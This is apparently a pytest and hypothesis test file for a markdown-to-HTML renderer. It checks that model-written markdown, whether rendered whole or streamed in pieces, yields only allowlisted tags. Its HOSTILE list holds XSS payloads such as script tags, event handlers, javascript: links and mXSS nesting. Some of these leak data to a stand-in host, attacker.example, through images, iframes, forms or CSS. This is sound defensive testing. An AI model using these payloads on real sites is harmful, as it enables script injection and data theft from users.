"""Markdown of models becomes HTML that can do nothing, whole or piece by piece alike."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kubeagentix.report.rendering import LONG_CHARS, Growing, html_of, text_html

HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](http://attacker.example/?secret)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x)",
    "<javascript:alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "<svg onload=alert(1)>",
    "<iframe src=//attacker.example></iframe>",
    "<style>*{background:url(http://attacker.example)}</style>",
    "<form action=//attacker.example><input name=x></form>",
    "<details open ontoggle=alert(1)>",
    '[x]: http://attacker.example "onclick=alert(1)"\n\n[x]',
    "`<script>`\n\n    <script>alert(1)</script>",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>x</script> |",
    '<b style="position:fixed">x</b>',
    "<base href=//attacker.example>",
    "<meta http-equiv=refresh content=0>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
)
ALLOWED = re.compile(
    r'<ol start="\d+">'
    r"|</?(p|br|hr|em|strong|s|code|pre|blockquote|ul|ol|li|h[1-6]|table|thead|tbody|tr|th|td)( /)?>"
    r'|</a>|<a href="(https?|mailto):[^"<>]*"( title="[^"<>]*")? rel="noopener noreferrer nofollow">'
    r'|<button type="button" class="kx-cite" data-evidence="e-[0-9a-f]+">|</button>'
)


def is_harmless(html: str) -> bool:
    return "<" not in ALLOWED.sub("", html)


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_can_do_nothing(text: str) -> None:
    for written in (text, f"- {text}", f"> {text}", f"before {text} after"):
        assert is_harmless(html_of(written)), html_of(written)
        assert is_harmless(html_of(written, {"e-0123456789"}))


@given(st.lists(st.sampled_from([*HOSTILE, "\n", "\n\n", "- ", "> ", "```", "e-0123456789", "*", "[", "](", "a"])))
@settings(max_examples=200, deadline=None)
def test_no_mixture_of_it_can_either(pieces: list[str]) -> None:
    text = "".join(pieces)
    growing = Growing()
    for piece in pieces:
        growing.add(piece)
        done, tail = growing.take({"e-0123456789"})
        assert is_harmless(done)
        assert is_harmless(tail)
    assert is_harmless(html_of(text, {"e-0123456789"}))


DOCUMENT = """The `checkout` deployment is **not ready** [e-0123456789].

| Pod | Reason |
|---|---|
| a | `CrashLoopBackOff` |

1. Fix the ConfigMap
2. Restart

   with a paragraph in the item

- one

- two

```sh
kubectl get pods

kubectl describe pod a
```

> a quotation

The end, and ~~nothing~~ more.
"""


@given(st.lists(st.integers(min_value=1, max_value=60)))
@settings(max_examples=100, deadline=None)
def test_pieces_render_as_the_whole_does(sizes: list[int]) -> None:
    growing, html, at, tail = Growing(), "", 0, ""
    for size in [*sizes, len(DOCUMENT)]:
        growing.add(DOCUMENT[at : at + size])
        at += size
        done, tail = growing.take()
        html += done
    assert html + tail == html_of(DOCUMENT)


def test_a_finished_block_is_rendered_once() -> None:
    growing = Growing()
    growing.add("one\n\ntwo")
    assert growing.take() == ("<p>one</p>\n", "<p>two</p>\n")
    growing.add(" more")
    assert growing.take() == ("", "<p>two more</p>\n")


LONG_LISTS = {
    "bullets": "".join(f"- item {number} of `them`\n" for number in range(600)),
    "numbers": "".join(f"{number + 1}. item {number}\n   goes on\n" for number in range(400)),
    "loose": "".join(f"- item {number}\n\n" for number in range(400)),
    "nested": "".join(f"* item {number}\n  * one\n  * two\n" for number in range(200)),
    "turns loose": "- item\n" * 300 + "\n- item\n\n" * 300,
    "code": "".join(f"- item {number}\n  ```\n- no item\n  ```\n" for number in range(60)),
}


@pytest.mark.parametrize("name", LONG_LISTS)
def test_a_long_list_is_finished_item_by_item(name: str) -> None:
    text, growing, html, longest = f"Before:\n\n{LONG_LISTS[name]}\nAfter.", Growing(), "", 0
    for at in range(0, len(text), 40):
        growing.add(text[at : at + 40])
        done, tail = growing.take()
        html += done
        longest = max(longest, len(tail))
    assert is_harmless(html + tail)
    for tag in ("li", "code", "pre"):
        assert (html + tail).count(f"<{tag}>") == html_of(text).count(f"<{tag}>")
    if name in ("bullets", "numbers", "loose", "nested"):
        assert longest < 3 * LONG_CHARS  # of HTML
        assert _without_seams(html + tail) == html_of(text)


def _without_seams(html: str) -> str:
    """Lists that follow each other as one."""
    return re.sub(r'</(ul|ol)>\n<\1( start="\d+")?>\n', "", html)


def test_a_numbered_list_goes_on_counting_after_what_stands_between() -> None:
    assert '<ol start="2">' in html_of("1. one\n\n```\ncode\n```\n\n2. two")


def test_only_evidence_that_was_shown_becomes_a_link() -> None:
    html = html_of("see [e-0123456789] and e-aaaaaaaaaa, `e-0123456789`", {"e-0123456789"})
    assert html.count("<button") == 2
    assert 'data-evidence="e-0123456789"' in html
    assert "e-aaaaaaaaaa" in html


def test_plain_text_stays_text() -> None:
    assert text_html("<b>&\n") == "&lt;b&gt;&amp;\n"
